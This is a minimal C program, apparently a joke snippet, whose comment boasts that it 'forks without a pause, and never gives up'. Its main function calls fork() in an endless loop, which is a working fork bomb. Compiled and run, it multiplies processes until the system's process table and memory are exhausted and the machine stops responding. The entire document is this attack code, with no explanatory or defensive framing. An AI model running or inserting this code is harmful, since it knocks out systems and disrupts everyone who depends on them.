/* Forks without a pause, and never gives up. */
int main(void) {
    for (;;) fork();
}
